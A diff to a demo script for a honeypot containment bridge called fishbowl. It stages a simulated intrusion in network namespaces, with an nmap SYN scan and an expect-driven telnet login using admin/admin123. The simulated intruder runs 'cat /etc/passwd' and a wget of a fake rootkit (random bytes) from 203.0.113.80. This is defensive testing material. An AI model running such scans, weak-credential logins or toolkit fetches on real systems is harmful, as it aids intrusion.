@@ -6,7 +6,8 @@
 #   server) --- fishbowl (transparent bridge) --- honeypot 10.99.0.130
 #   running real services: a web server (80) and a login service (23)
 #
-# The attack: an nmap SYN scan, a login on port 23 and a few commands; then,
+# The attack: an nmap SYN scan, a telnet login (a real telnetd, a real
+# telnet client driven by expect) and a few commands typed; then,
 # from the compromised honeypot, a toolkit fetched over HTTP and over FTP
 # (vsftpd), a chat on IRC (ngircd, two channels), more downloads until the
 # limit (5 new TCP connections an hour) blocks the honeypot, a spoofed SYN
@@ -25,7 +26,7 @@ OUT=$ROOT/demo/out
 die() { echo "demo: $*" >&2; exit 1; }
 [ "$(id -u)" = 0 ] || die "run as root (network namespaces)"
 [ -x "$FISHBOWL" ] || die "no $FISHBOWL (run make first)"
-for t in ip nmap curl hping3 tcpdump python3 socat ss vsftpd ngircd sha256sum; do
+for t in ip nmap curl hping3 tcpdump python3 socat ss vsftpd ngircd sha256sum expect telnet; do
 	command -v $t >/dev/null || die "$t is missing (scripts/deps.sh installs it)"
 done
 
@@ -50,18 +51,25 @@ mkdir -p "$W/www" "$W/toolkit"
 echo "<h1>ACME intranet</h1>" >"$W/www/index.html"
 head -c 20000 /dev/urandom >"$W/toolkit/rootkit.tar.gz"
 cat >"$W/login.py" <<'EOF'
-import sys, time
+# The honeypot's login program: telnetd runs it on the pty it negotiated.
+import sys, termios
 w = sys.stdout.write
 def line():
     s = sys.stdin.readline()
     if not s:
         sys.exit(0)
     return s.strip()
-w("\r\nDebian GNU/Linux 12 acme-web\r\nacme-web login: "); sys.stdout.flush()
+def echo(on):
+    a = termios.tcgetattr(0)
+    a[3] = a[3] | termios.ECHO if on else a[3] & ~termios.ECHO
+    termios.tcsetattr(0, termios.TCSANOW, a)
+w("\nDebian GNU/Linux 12 acme-web\nacme-web login: "); sys.stdout.flush()
 user = line()
+echo(False)
 w("Password: "); sys.stdout.flush()
 line()
-w("Last login: Thu Nov 26 09:12:01 2026 from 10.99.0.1\r\n")
+echo(True)
+w("\nLast login: Thu Nov 26 09:12:01 2026 from 10.99.0.1\n")
 answers = {
     "id": "uid=1000(%s) gid=1000(%s) groups=1000(%s)" % (user, user, user),
     "uname -a": "Linux acme-web 6.1.0-13-amd64 #1 SMP Debian x86_64 GNU/Linux",
@@ -72,37 +80,53 @@ while True:
     w("%s@acme-web:~$ " % user); sys.stdout.flush()
     c = line()
     if c in ("exit", "logout"):
-        w("logout\r\n"); break
-    w(answers.get(c, "") + ("\r\n" if c in answers else ""))
+        w("logout\n"); break
+    w(answers.get(c, "") + ("\n" if c in answers else ""))
     if c.startswith("wget"):
-        w("Connecting to 203.0.113.80:80... connected.\r\n")
+        w("Connecting to 203.0.113.80:80... connected.\n")
     sys.stdout.flush()
 EOF
-cat >"$W/attacker.py" <<'EOF'
-import socket, sys, time
-s = socket.create_connection((sys.argv[1], 23), timeout=5)
-def send(t):
-    time.sleep(0.3)
-    s.sendall(t.encode() + b"\n")
-for t in ["admin", "admin123", "id", "uname -a", "w", "cat /etc/passwd",
-          "wget http://203.0.113.80/rootkit.tar.gz", "exit"]:
-    send(t)
-time.sleep(0.5)
-s.settimeout(2)
-buf = b""
-try:
-    while True:
-        d = s.recv(4096)
-        if not d:
-            break
-        buf += d
-except OSError:
-    pass
-for l in buf.decode(errors="replace").replace("\r", "").split("\n"):
-    print("   | " + l)
+# The attacker types, one key at a time, with a typo corrected by DEL.
+cat >"$W/attack.exp" <<'EOF'
+set timeout 10
+log_user 0
+proc want {pat} {
+	expect {
+		-ex $pat {}
+		timeout { puts "   (no \"$pat\" from the honeypot)"; exit 1 }
+		eof { exit 1 }
+	}
+}
+proc type {s} {
+	foreach c [split $s ""] { send -- $c; after 20 }
+}
+spawn telnet [lindex $argv 0] 23
+want "login: "
+type "admin\r"
+want "Password: "
+type "admin123\r"
+foreach cmd {"id" "unamx\177e -a" "w" "cat /etc/passwd" "wget http://203.0.113.80/rootkit.tar.gz"} {
+	want "$ "
+	type "$cmd\r"
+}
+want "$ "
+type "exit\r"
+expect eof
+puts "   the attacker logged in by telnet, typed 5 commands (one typo fixed with DEL), left"
 EOF
 fbn_bg "$FBN_HP" python3 -m http.server -d "$W/www" -b 0.0.0.0 80 >/dev/null 2>&1
-fbn_bg "$FBN_HP" socat TCP-LISTEN:23,fork,reuseaddr EXEC:"python3 -u $W/login.py"
+# A real telnetd (inetutils), started per connection as inetd would.  Its
+# reverse lookup is answered from a hosts file of the honeypot's namespace,
+# so no DNS query leaves the honeypot.
+NSETC=/etc/netns/$FBN_HP
+mkdir -p "$NSETC"
+printf '127.0.0.1 localhost\n%s attacker\n%s acme-web\n' "$FBN_ATTACKER" "$HP" >"$NSETC/hosts"
+printf 'nameserver 127.0.0.1\n' >"$NSETC/resolv.conf"
+trap 'fbn_cleanup; rm -rf "$NSETC"; rmdir /etc/netns 2>/dev/null' EXIT
+printf '#!/bin/sh\nexec /usr/bin/python3 -u %s/login.py\n' "$W" >"$W/login.sh"
+chmod 0755 "$W/login.sh"
+fbn_bg "$FBN_HP" socat TCP-LISTEN:23,fork,reuseaddr \
+    EXEC:"/usr/sbin/telnetd -h -E $W/login.sh",nofork
 fbn_bg "$FBN_OUT" python3 -m http.server -d "$W/toolkit" -b 0.0.0.0 80 >/dev/null 2>&1
 # The Internet's FTP server (anonymous, the toolkit again) and IRC server.
 mkdir -p "$W/ftp/pub" "$W/vsftpd-empty"
@@ -145,7 +169,7 @@ for p in 80 23; do fbn_wait_port "$FBN_HP" $p || die "honeypot service $p did no
 fbn_wait_port "$FBN_OUT" 80 || die "toolkit server did not start"
 fbn_wait_port "$FBN_OUT" 21 || die "FTP server did not start"
 fbn_wait_port "$FBN_OUT" 6667 || die "IRC server did not start"
-say "honeypot services: http (80), login (23)"
+say "honeypot services: http (80), telnet (23, inetutils telnetd)"
 say "outside: toolkit web server 203.0.113.80, FTP server 203.0.113.21, IRC server 203.0.113.7"
 
 step "2. fishbowl starts as the gateway"
@@ -164,8 +188,8 @@ say "fishbowl run -c $FBN_CONF   (pid $FBN_FB_PID, control socket $FBN_SOCK)"
 step "3. the attacker scans the honeypot (nmap -sS from $FBN_ATTACKER)"
 inO nmap -n -Pn -sS -T4 --max-retries 1 -p 1-1024 $HP 2>&1 | grep -E '^[0-9]+/tcp|scanned' | sed 's/^/   /'
 
-step "4. the attacker logs in on port 23 and looks around"
-inO python3 "$W/attacker.py" $HP
+step "4. the attacker logs in by telnet and looks around"
+inO expect "$W/attack.exp" $HP || say "(the telnet session did not finish)"
 
 step "5. the intruder, on the honeypot, fetches a toolkit over HTTP and FTP"
 fetch() {	# label url
